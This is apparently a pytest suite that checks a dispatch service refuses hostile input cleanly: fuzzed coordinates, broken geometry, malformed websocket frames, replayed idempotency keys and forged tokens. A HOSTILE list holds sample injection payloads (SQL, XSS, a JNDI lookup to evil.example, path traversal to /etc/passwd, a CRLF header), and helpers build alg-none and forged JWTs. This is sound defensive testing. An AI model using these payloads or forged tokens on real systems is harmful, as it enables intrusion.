"""Hostile input, on SQLite and PostgreSQL: odd coordinates, broken geometry in ``commandpost import``,
injection-shaped text in every text field, forged and malformed tokens, malformed and oversized websocket
frames, replayed idempotency keys. Each gets a 4xx (or a socket error reply, or a documented close code)
with a plain message, never a 5xx or a crash, and a refused request writes nothing: the log's head stays
where it was and the chain still verifies. (test_bad_input.py holds the single cases; these go wide.)"""

import asyncio
import base64
import hashlib
import hmac
import json
import math
import threading
from dataclasses import dataclass
from typing import Callable
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as hs
from starlette.websockets import WebSocketDisconnect

from coordinator.app import create_app
from coordinator.auth import issue
from coordinator.cli import main
from coordinator.importer import load_manifest
from coordinator.log import EventLog, make_engine
from coordinator.settings import Settings, resolve_secret
from geo.geojson import read_districts

from ..adapters import BACKENDS, fresh_engine
from ..builders import IN_WEST, Clock, tiny_city
from ..conftest import postgres_url
from .test_import import write_city

GOOD = {"type": "structure_fire", "location": IN_WEST.to_json()}
FUZZ = hsettings(max_examples=40, deadline=None, database=None, derandomize=True,
                 suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@dataclass
class Service:
    backend: str
    client: TestClient
    clock: Clock
    mint: Callable[..., dict]
    settings: Settings

    @property
    def dispatcher(self) -> dict:
        return self.mint("dispatcher")

    def head(self) -> int:
        return self.client.app.state.node.state.seq

    def verifies(self) -> bool:
        return self.client.get("/v1/events/verify", headers=self.dispatcher).json()["ok"]


@pytest.fixture(params=BACKENDS)
def service(request, tmp_path):
    """The whole service on a fresh SQLite file or a fresh PostgreSQL schema (CP_TEST_DATABASE_URL)."""
    unlimited = dict(rate_intake_per_min=0, rate_position_per_s=0)  # input is on trial here, not its pace
    if request.param == "sqlite":
        settings = Settings(data_dir=tmp_path, poll_interval_s=0.2, **unlimited)
    else:
        fresh_engine(request.param, tmp_path).dispose()  # skips without CP_TEST_DATABASE_URL; empties the schema
        settings = Settings(data_dir=tmp_path, poll_interval_s=0.2, database_url=postgres_url(),
                            secret="hostile-test-secret-0123456789", **unlimited)
    clock, secret = Clock(), resolve_secret(settings)

    def mint(role="dispatcher", agency=None, unit=None, ttl_s=None):
        return {"Authorization": "Bearer " + issue(secret, role, unit or role, int(clock().timestamp()), ttl_s,
                                                   agency, unit)}

    with TestClient(create_app(settings, clock=clock, city=tiny_city())) as client:
        yield Service(request.param, client, clock, mint, settings)


def refused_plainly(response, status: int | None = None) -> dict:
    """A 4xx (``status`` if given) in the shape every error has: a code and a message for a person."""
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:300])
    assert status is None or response.status_code == status, (response.status_code, response.text[:300])
    body = response.json()
    assert isinstance(body.get("error"), str) and isinstance(body.get("message"), str) and body["message"]
    assert "Traceback" not in body["message"]
    return body


def post_raw(service, path: str, text: str, headers: dict | None = None):
    return service.client.post(path, content=text.encode("utf-8", "surrogatepass"),
                               headers={**service.dispatcher, "Content-Type": "application/json", **(headers or {})})


# -- coordinates ------------------------------------------------------------------------------------
SPECIAL = [0, -0.0, 90, -90, 180, -180, 89.99999999999999, 90.00000000000001, 180.00000000000003, -180.00000000000003,
           1e308, -1e308, 5e-324, 10**30, -(10**30), math.nan, math.inf, -math.inf]
COORDINATE = hs.one_of(hs.sampled_from(SPECIAL), hs.floats(allow_nan=True, allow_infinity=True),
                       hs.floats(-200, 200), hs.integers(-1000, 1000), hs.booleans(), hs.none(),
                       hs.text(max_size=6), hs.sampled_from(["NaN", "Infinity", "37.7", "-122.4", "1e400", ""]),
                       hs.lists(hs.floats(), max_size=2))


def acceptable(value, limit: float) -> bool:
    return (isinstance(value, (int, float)) and not isinstance(value, bool) and math.isfinite(value)
            and -limit <= value <= limit)


@given(lat=COORDINATE, lon=COORDINATE)
@FUZZ
def test_any_coordinate_is_reported_or_refused_naming_the_field(service, lat, lon):
    before = service.head()
    body = json.dumps({**GOOD, "location": {"lat": lat, "lon": lon}})  # NaN and Infinity as JSON5-ish literals
    response = post_raw(service, "/v1/incidents", body)
    if acceptable(lat, 90) and acceptable(lon, 180):
        assert response.status_code == 201, response.text
        assert response.json()["location"] == {"lat": float(lat), "lon": float(lon)}
    else:
        message = refused_plainly(response, 422)["message"]
        assert "location.lat" in message or "location.lon" in message
        assert service.head() == before


@given(lat=COORDINATE, lon=COORDINATE, heading=COORDINATE)
@FUZZ
def test_any_position_is_kept_or_refused_and_never_moves_the_unit_on_refusal(service, lat, lon, heading):
    before = service.client.get("/v1/units/E1", headers=service.dispatcher).json()["position"]
    body = json.dumps({"lat": lat, "lon": lon, "heading": heading})
    response = service.client.put("/v1/units/E1/position", content=body.encode(),
                                  headers={**service.dispatcher, "Content-Type": "application/json"})
    heading_ok = heading is None or (acceptable(heading, 360) and 0 <= heading < 360)
    if acceptable(lat, 90) and acceptable(lon, 180) and heading_ok:
        assert response.status_code == 200, response.text
    else:
        refused_plainly(response, 422)
        assert service.client.get("/v1/units/E1", headers=service.dispatcher).json()["position"] == before


@pytest.mark.parametrize("lat,lon,radius", [("nan", "0", "100"), ("0", "inf", "100"), ("1e400", "0", "100"),
                                            ("90", "180", "100000"), ("-90", "-180", "1"), ("90.0000001", "0", "10"),
                                            ("0", "-180.0000001", "10"), ("0", "0", "nan"), ("0", "0", "-inf"),
                                            ("true", "0", "10"), ("", "", ""), ("0x10", "0", "10")])
def test_report_queries_at_the_poles_the_antimeridian_and_beyond(service, lat, lon, radius):
    params = {"lat": lat, "lon": lon, "radius_m": radius, "from": "2026-11-26T00:00:00Z", "to": "2026-11-26T20:00:00Z"}
    for path in ("/v1/reports/incidents-near", "/v1/reports/units-near"):
        response = service.client.get(path, params=params, headers=service.mint("commander"))
        assert response.status_code in (200, 422), (path, response.text)
        if response.status_code == 422:
            refused_plainly(response)


# -- geometry in a city import ------------------------------------------------------------------------
def beats(geometry_type: str, coordinates) -> dict:
    return {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"beat": "B1", "label": "Beat One"},
         "geometry": {"type": geometry_type, "coordinates": coordinates}}]}


GEOMETRY = [
    ("bow-tie", beats("Polygon", [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]), "crosses itself"),
    ("bow-tie in a multipolygon", beats("MultiPolygon", [[[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]]), "crosses itself"),
    ("empty polygon", beats("Polygon", []), "has no area"),
    ("empty ring", beats("Polygon", [[]]), "has no area"),
    ("empty multipolygon", beats("MultiPolygon", []), "has no area"),
    ("ring of three points", beats("Polygon", [[[0, 0], [1, 0], [0, 0]]]), "has no area"),
    ("ring of two points", beats("Polygon", [[[0, 0], [1, 0]]]), "at least 4 coordinates"),
    ("a line as a ring", beats("Polygon", [[[0, 0], [1, 0], [2, 0], [0, 0]]]), "has no area"),
    ("NaN coordinate", beats("Polygon", [[[0, 0], [math.nan, 0], [1, 1], [0, 1], [0, 0]]]), "not a finite number: nan"),
    ("infinite coordinate", beats("Polygon", [[[0, 0], [1, 0], [1, math.inf], [0, 0]]]), "not a finite number: inf"),
    ("true as a coordinate", beats("Polygon", [[[True, 0], [1, 0], [1, 1], [True, 0]]]), "not a number: True"),
    ("text as a coordinate", beats("Polygon", [[["0", 0], [1, 0], [1, 1], ["0", 0]]]), "not a number: '0'"),
    ("null coordinates", beats("Polygon", None), "has no area"),
    ("across the antimeridian", beats("Polygon", [[[179, 0], [-179, 0], [-179, 1], [179, 1], [179, 0]]]), "antimeridian"),
    ("past the antimeridian", beats("Polygon", [[[179, 0], [181, 0], [181, 1], [179, 1], [179, 0]]]), "outside WGS 84"),
    ("around the pole", beats("Polygon", [[[0, 89], [90, 89], [180, 89], [-90, 89], [0, 89]]]), "degrees of longitude"),
    ("pole to pole", beats("Polygon", [[[-180, -90], [180, -90], [180, 90], [-180, 90], [-180, -90]]]), "degrees of longitude"),
    ("beyond the pole", beats("Polygon", [[[0, 89], [1, 89], [1, 91], [0, 89]]]), "outside WGS 84"),
    ("a point", beats("Point", [0, 0]), "must be a Polygon or MultiPolygon"),
]


@pytest.mark.parametrize("doc,says", [g[1:] for g in GEOMETRY], ids=[g[0] for g in GEOMETRY])
def test_broken_district_geometry_is_refused_naming_the_file_and_feature(tmp_path, doc, says):
    manifest = write_city(tmp_path)
    (tmp_path / "beats.geojson").write_text(json.dumps(doc))  # NaN and Infinity as Python's json writes them
    with pytest.raises(ValueError) as refused:
        load_manifest(manifest)
    message = str(refused.value)
    assert message.startswith(f"{tmp_path / 'beats.geojson'}: ") and says in message, message
    if "has no area" not in message:
        assert "feature 0 (district 'B1')" in message, message


@pytest.mark.parametrize("doc,says", [GEOMETRY[0][1:], GEOMETRY[8][1:], GEOMETRY[13][1:]],
                         ids=["bow-tie", "NaN", "antimeridian"])
def test_the_import_command_exits_2_with_a_plain_message_and_stores_no_city(tmp_path, capsys, doc, says):
    city = tmp_path / "city"
    city.mkdir()
    manifest = write_city(city)
    (city / "beats.geojson").write_text(json.dumps(doc))
    data = tmp_path / "data"
    assert main(["import", str(manifest)], environ={"CP_DATA_DIR": str(data)}) == 2
    err = capsys.readouterr().err
    assert err.startswith("commandpost: ") and says in err and "Traceback" not in err
    engine = make_engine(f"sqlite:///{data / 'commandpost.db'}")
    try:
        assert EventLog(engine, Clock()).load_city() is None
    finally:
        engine.dispose()


NUMBER = hs.one_of(hs.floats(allow_nan=True, allow_infinity=True), hs.floats(-181, 181),
                   hs.sampled_from([0, 180, -180, 90, -90, 1e308]), hs.integers(-200, 200), hs.booleans())
RING = hs.lists(hs.lists(NUMBER, min_size=2, max_size=3), max_size=7).map(
    lambda points: points + points[:1] if points else points)


@given(rings=hs.lists(RING, max_size=3), multi=hs.booleans())
@hsettings(max_examples=300, deadline=None, database=None, derandomize=True)
def test_any_polygon_becomes_a_district_or_a_value_error_naming_its_feature(rings, multi):
    doc = beats("MultiPolygon", [rings]) if multi else beats("Polygon", rings)
    try:
        [district] = read_districts(doc, "pd", "beat")
    except ValueError as err:
        assert "feature 0" in str(err) or "district 'B1'" in str(err), str(err)
        return
    geometry = district.geometry
    assert geometry.is_valid and not geometry.is_empty and geometry.area > 0
    minx, miny, maxx, maxy = geometry.bounds
    assert -180 <= minx <= maxx <= 180 and -90 <= miny <= maxy <= 90 and maxx - minx <= 180


# -- injection-shaped text -----------------------------------------------------------------------------
HOSTILE = ["'; DROP TABLE events; --", "' OR '1'='1", "<script>alert(1)</script>", "{{7*7}}", "${7*7}",
           "${jndi:ldap://evil.example/a}", "%s%s%s%n", "../../../../etc/passwd", "\u202egnp.exe\u200b\u200d\ufeff",
           "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd", "🚒🚑🚓", "a\r\nX-Injected: 1", "\\u0000", "\x7f\x1b[31m"]
REFUSED_TEXT = ["a\x00b", "\x00", "x" * 100_000]  # NUL; 100k characters (over every limit, and the body's)


def text_fields(service) -> list[tuple[str, str, Callable[[str], dict], Callable[[dict], object]]]:
    """(method, path, body with the text, where the text comes back) for every free-text field."""
    incident = service.client.post("/v1/incidents", json=GOOD, headers=service.dispatcher).json()
    assignment = service.client.post(f"/v1/incidents/{incident['id']}/assignments", json={"unit_ids": ["E1"]},
                                     headers=service.dispatcher).json()["assignments"][0]
    spare = service.client.post("/v1/incidents", json={**GOOD, "location": {"lat": 37.71, "lon": -122.49}},
                                headers=service.dispatcher).json()
    return [
        ("POST", "/v1/incidents", lambda t: {**GOOD, "address": t}, lambda r: r["address"]),
        ("POST", "/v1/incidents", lambda t: {**GOOD, "description": t}, lambda r: r["description"]),
        ("POST", f"/v1/incidents/{incident['id']}/notes", lambda t: {"text": t}, lambda r: r["text"]),
        ("POST", f"/v1/assignments/{assignment['id']}/cancel", lambda t: {"reason": t}, lambda r: None),  # not kept
        ("POST", f"/v1/incidents/{spare['id']}/close", lambda t: {"disposition": t}, lambda r: r["disposition"]),
    ]


def test_injection_shaped_text_is_stored_verbatim_or_refused_in_every_text_field(service):
    fields = text_fields(service)
    stored = 0
    for method, path, body, echoed in fields:
        for text in HOSTILE + REFUSED_TEXT:
            before = service.head()
            response = service.client.request(method, path, json=body(text), headers=service.dispatcher)
            if text in REFUSED_TEXT:
                refused_plainly(response, 413 if len(text) > 60_000 else 422)
                assert service.head() == before
            elif response.status_code < 300:
                expected = text.strip()  # text fields are trimmed, as documented
                assert echoed(response.json()) in (expected, None), (path, text)
                stored += echoed(response.json()) is not None
            else:  # a one-shot action done already (a cancelled assignment, a closed incident): 409
                refused_plainly(response, 409)
                assert service.head() == before
    assert stored >= 3 * len(HOSTILE)
    incidents = service.client.get("/v1/incidents", headers=service.dispatcher).json()["incidents"]
    assert {i["address"] for i in incidents} >= {t.strip() for t in HOSTILE}
    assert service.client.get("/v1/events", params={"limit": 5000}, headers=service.dispatcher).status_code == 200
    assert service.verifies()


@pytest.mark.parametrize("field", ["address", "description", "type"])
def test_lone_surrogates_are_refused_naming_the_field(service, field):
    before = service.head()
    body = json.dumps(GOOD)[:-1] + f', "{field}": "\\ud800 and \\udfff"}}'
    if field == "type":
        body = json.dumps({"location": GOOD["location"]})[:-1] + ', "type": "\\ud800"}'
    assert field in refused_plainly(post_raw(service, "/v1/incidents", body), 422)["message"]
    assert service.head() == before


def test_hostile_ids_types_and_query_strings_are_4xx_or_empty_never_5xx(service):
    before = service.head()
    for text in HOSTILE + ["a\x00b", "%00", "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"), "x" * 5000]:
        for method, path, body in [("GET", "/v1/incidents/{}", None), ("GET", "/v1/units/{}", None),
                                   ("GET", "/v1/incidents/{}/timeline", None),
                                   ("GET", "/v1/incidents/{}/recommendation", None),
                                   ("POST", "/v1/incidents/{}/notes", {"text": "hi"}),
                                   ("POST", "/v1/incidents/{}/close", None), ("POST", "/v1/assignments/{}/ack", None),
                                   ("PUT", "/v1/units/{}/status", {"status": "en_route"}),
                                   ("PUT", "/v1/units/{}/position", {"lat": 37.7, "lon": -122.4})]:
            response = service.client.request(method, path.format(quote(text, safe="")), json=body,
                                              headers=service.dispatcher)
            refused_plainly(response)
        for method, path, body in [("POST", "/v1/incidents", {**GOOD, "type": text}),
                                   ("PUT", "/v1/units/E2/status", {"status": text}),
                                   ("POST", "/v1/incidents", {**GOOD, "priority": text})]:
            refused_plainly(service.client.request(method, path, json=body, headers=service.dispatcher), 422)
        for path, params in [("/v1/units", {"agency": text, "status": text, "type": text}),
                             ("/v1/incidents", {"status": text}), ("/v1/state", {"at": text}),
                             ("/v1/events", {"after": text, "limit": text}),
                             ("/v1/reports/response-times", {"from": text, "to": text}),
                             ("/v1/reports/incidents-near", {"lat": "0", "lon": "0", "radius_m": "10", "from": text,
                                                              "to": text})]:
            response = service.client.get(path, params=params, headers=service.mint("commander"))
            if response.status_code == 200:
                assert path == "/v1/units" and response.json()["units"] == []
            else:
                refused_plainly(response, 422)
    assert service.head() == before and service.verifies()


@pytest.mark.parametrize("key", HOSTILE[:9] + ["é€ 🚒", "\x00", "a\x00b", " ", "k" * 200])
def test_an_idempotency_key_of_any_shape_replays_or_is_refused(service, key):
    wire = key.encode("utf-8")  # headers travel as bytes; the server reads them as latin-1
    headers = {**service.dispatcher, "Idempotency-Key": wire}
    first = service.client.post("/v1/incidents", json=GOOD, headers=headers)
    if first.status_code != 201:
        refused_plainly(first, 422)
        return
    head = service.head()
    again = service.client.post("/v1/incidents", json=GOOD, headers=headers)
    assert again.status_code == 201 and again.json() == first.json()
    other = service.client.post("/v1/incidents", json={**GOOD, "priority": 5}, headers=headers)
    assert "different request" in refused_plainly(other, 422)["message"]
    assert service.head() == head and service.verifies()


def test_an_overlong_idempotency_key_is_refused_before_anything_is_written(service):
    before = service.head()
    response = service.client.post("/v1/incidents", json=GOOD,
                                   headers={**service.dispatcher, "Idempotency-Key": "k" * 100_000})
    assert "Idempotency-Key" in refused_plainly(response, 422)["message"]
    assert service.head() == before


# -- replayed idempotency keys ---------------------------------------------------------------------------
def test_a_key_replayed_on_another_path_is_refused(service):
    one = service.client.post("/v1/incidents", json=GOOD, headers=service.dispatcher).json()["id"]
    two = service.client.post("/v1/incidents", json={**GOOD, "location": {"lat": 37.71, "lon": -122.49}},
                              headers=service.dispatcher).json()["id"]
    headers = {**service.dispatcher, "Idempotency-Key": "note-1"}
    first = service.client.post(f"/v1/incidents/{one}/notes", json={"text": "smoke"}, headers=headers)
    assert first.status_code == 201
    before = service.head()
    refused_plainly(service.client.post(f"/v1/incidents/{two}/notes", json={"text": "smoke"}, headers=headers), 422)
    again = service.client.post(f"/v1/incidents/{one}/notes", json={"text": "smoke"}, headers=headers)
    assert again.status_code == 201 and again.json() == first.json()
    assert service.head() == before


def test_one_key_sent_many_times_at_once_reports_one_incident(service):
    headers = {**service.dispatcher, "Idempotency-Key": "storm-1"}
    answers: list = []
    barrier = threading.Barrier(8)

    def send(body):
        barrier.wait()
        answers.append(service.client.post("/v1/incidents", json=body, headers=headers))

    bodies = [GOOD] * 6 + [{**GOOD, "priority": 5}] * 2  # two of them a different request with the same key
    threads = [threading.Thread(target=send, args=(body,)) for body in bodies]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    ok = [a for a in answers if a.status_code == 201]
    refused = [a for a in answers if a.status_code != 201]
    assert len(answers) == 8 and ok, [a.text for a in answers]
    assert len({a.json()["id"] for a in ok}) == 1  # every success is the first answer
    for answer in refused:
        refused_plainly(answer)
        assert answer.status_code in (409, 422)
    assert ok[0].json()["priority"] in (1, 5)
    assert len(ok) + len(refused) == 8 and len(ok) in (2, 6)  # whichever body won, the other is refused
    assert len(service.client.get("/v1/incidents", headers=service.dispatcher).json()["incidents"]) == 1
    assert service.verifies()


# -- tokens ----------------------------------------------------------------------------------------------
def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def jwt(header: dict, claims: dict, key: bytes | None) -> str:
    signing = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}"
    return f"{signing}.{b64(hmac.new(key, signing.encode(), hashlib.sha256).digest()) if key else ''}"


def cp1(secret: str, claims, payload: str | None = None) -> str:
    payload = payload or b64(json.dumps(claims).encode())
    return f"cp1.{payload}.{b64(hmac.new(secret.encode(), f'cp1.{payload}'.encode(), hashlib.sha256).digest())}"


def bad_tokens(service) -> list[tuple[str, bytes | str, str]]:
    secret = resolve_secret(service.settings)
    now = int(service.clock().timestamp())
    good = service.mint("dispatcher")["Authorization"].removeprefix("Bearer ")
    _, payload, signature = good.split(".")
    admin = b64(json.dumps({"role": "admin", "sub": "dispatcher", "iat": now}).encode())
    claims = {"role": "admin", "sub": "mallory", "iat": now}
    return [
        ("bad signature", f"cp1.{payload}.{signature[:-2]}AA", "signature"),
        ("another secret", issue("another-secret-entirely-0123456789", "admin", "m", now), "signature"),
        ("modified payload", f"cp1.{admin}.{signature}", "signature"),
        ("signature stripped", f"cp1.{payload}.", "signature"),
        ("alg none JWT", jwt({"alg": "none", "typ": "JWT"}, claims, None), "not a commandpost token"),
        ("HS256 JWT with the secret", jwt({"alg": "HS256", "typ": "JWT"}, claims, secret.encode()),
         "not a commandpost token"),
        ("alg none as cp1", f"cp1.{b64(json.dumps({'alg': 'none', **claims}).encode())}.", "signature"),
        ("expired", issue(secret, "dispatcher", "d", now - 3600, 60), "expired"),
        ("expiry not a number", cp1(secret, {**claims, "exp": "never"}), "claims"),
        ("expiry null", cp1(secret, {**claims, "exp": None}), "claims"),
        ("claims a list", cp1(secret, ["admin"]), "claims"),
        ("claims not JSON", cp1(secret, None, b64(b"\xff\xfe{")), "claims"),
        ("payload not base64", cp1(secret, None, "%%%%"), "claims"),
        ("unknown role", cp1(secret, {"role": "root", "sub": "x"}), "unknown role"),
        ("empty", "", "Bearer <token>"),
        ("blank", "   ", "Bearer <token>"),
        ("extra parts", f"{good}.x", "not a commandpost token"),
        ("100 KB", "cp1." + "A" * 100_000 + ".x", "signature"),
        ("non-ASCII", "cp1.\u00e9\u00e9.\u00e9".encode("utf-8"), "signature"),
        ("NUL", "cp1.a\x00b.c", "signature"),
    ]


def test_forged_malformed_and_expired_tokens_are_401_with_a_plain_message(service):
    before = service.head()
    for name, token, says in bad_tokens(service):
        value = b"Bearer " + token if isinstance(token, bytes) else f"Bearer {token}"
        for method, path, body in [("GET", "/v1/incidents", None), ("POST", "/v1/incidents", GOOD),
                                   ("GET", "/v1/me", None)]:
            response = service.client.request(method, path, json=body, headers={"Authorization": value})
            message = refused_plainly(response, 401)["message"]
            assert says in message, (name, message)
            assert response.headers["WWW-Authenticate"] == "Bearer"
        with pytest.raises(WebSocketDisconnect) as closed:
            with service.client.websocket_connect("/v1/stream", headers={"Authorization": value}) as ws:
                ws.receive_json()
        assert closed.value.code == 4401, name
    assert service.head() == before


# -- websocket frames -------------------------------------------------------------------------------------
FRAMES = ["", "not json", "{", "[]", "[1, 2]", "42", "\"text\"", "null", "true", "{}", "{\"id\": 1}",
          "{\"type\": \"launch\", \"id\": \"x\"}", "{\"type\": 7}", "{\"type\": null}", "{\"type\": \"ack\"}",
          "{\"type\": \"ack\", \"assignment_id\": 5}", "{\"type\": \"ack\", \"id\": [1], \"assignment_id\": \"a\"}",
          "{\"type\": \"status\"}", "{\"type\": \"status\", \"status\": \"'; DROP TABLE events; --\"}",
          "{\"type\": \"position\"}", "{\"type\": \"position\", \"lat\": NaN, \"lon\": 0}",
          "{\"type\": \"position\", \"lat\": 1e999, \"lon\": 0}", "{\"type\": \"position\", \"lat\": true, \"lon\": 0}",
          "{\"type\": \"position\", \"lat\": 1, \"lon\": 2, \"at\": \"\\ud800\"}",
          "[" * 100_000 + "]" * 100_000, "{\"a\": " * 5000 + "1" + "}" * 5000]


def test_malformed_frames_get_an_error_reply_and_the_socket_keeps_serving(service):
    unit = service.mint("unit", unit="E1")
    before = service.head()
    with service.client.websocket_connect(f"/v1/units/E1/stream?after={before}", headers=unit) as ws:
        for frame in FRAMES:
            ws.send_text(frame)
            reply = ws.receive_json()
            assert reply["type"] == "error" and 400 <= reply["status"] < 500 and reply["message"], (frame[:40], reply)
        for frame in [b"\xff\xfe\x00", b"\x00" * 10, b"{\"type\": \"status\"", "{}".encode("utf-16")]:
            ws.send_bytes(frame)
            reply = ws.receive_json()
            assert reply["type"] == "error" and reply["status"] == 422, reply
        assert service.head() == before
        ws.send_text(json.dumps({"type": "status", "id": "still-here", "status": "out_of_service"}))
        reply = ws.receive_json()
        assert reply == {"type": "reply", "id": "still-here", "status": "out_of_service"} or \
            (reply["type"] != "error" and reply.get("id") == "still-here"), reply
    with service.client.websocket_connect("/v1/stream?after=0", headers=service.dispatcher) as console:
        for frame in FRAMES[:6]:
            console.send_text(frame)  # a console sends nothing the server reads; whatever it sends is ignored
        console.send_bytes(b"\xff")
        assert console.receive_json()["seq"] == 1
    assert service.verifies()


def test_a_frame_over_64_kib_closes_the_socket_with_1009_and_the_node_serves_on(tmp_path, clock):
    from .test_streams_loopback import served
    settings = Settings(data_dir=tmp_path, poll_interval_s=0.2)
    secret = resolve_secret(settings)
    unit = {"Authorization": "Bearer " + issue(secret, "unit", "E1", int(clock().timestamp()), None, None, "E1")}
    dispatcher = {"Authorization": "Bearer " + issue(secret, "dispatcher", "d", int(clock().timestamp()))}
    from websockets.exceptions import ConnectionClosed

    async def scenario(live):
        async with live.socket("/v1/units/E1/stream", unit) as ws:
            await ws.send(json.dumps({"type": "status", "id": "big", "status": "x" * (70 * 1024)}))
            with pytest.raises(ConnectionClosed) as closed:
                while True:  # the unit's backlog may come before the close
                    await asyncio.wait_for(ws.recv(), 5)
            assert closed.value.rcvd is not None and closed.value.rcvd.code == 1009
        async with live.socket("/v1/units/E1/stream", unit) as ws:
            await ws.send(json.dumps({"type": "status", "id": "small", "status": "out_of_service"}))
            reply = {}
            while reply.get("type") not in ("reply", "error"):  # the unit's backlog comes first
                reply = json.loads(await asyncio.wait_for(ws.recv(), 5))
            assert reply["id"] == "small" and reply["type"] == "reply", reply
        async with live.http(dispatcher) as http:
            assert (await http.get("/v1/events/verify")).json()["ok"]

    with served(create_app(settings, clock=clock, city=tiny_city())) as live:
        asyncio.run(asyncio.wait_for(scenario(live), 20))
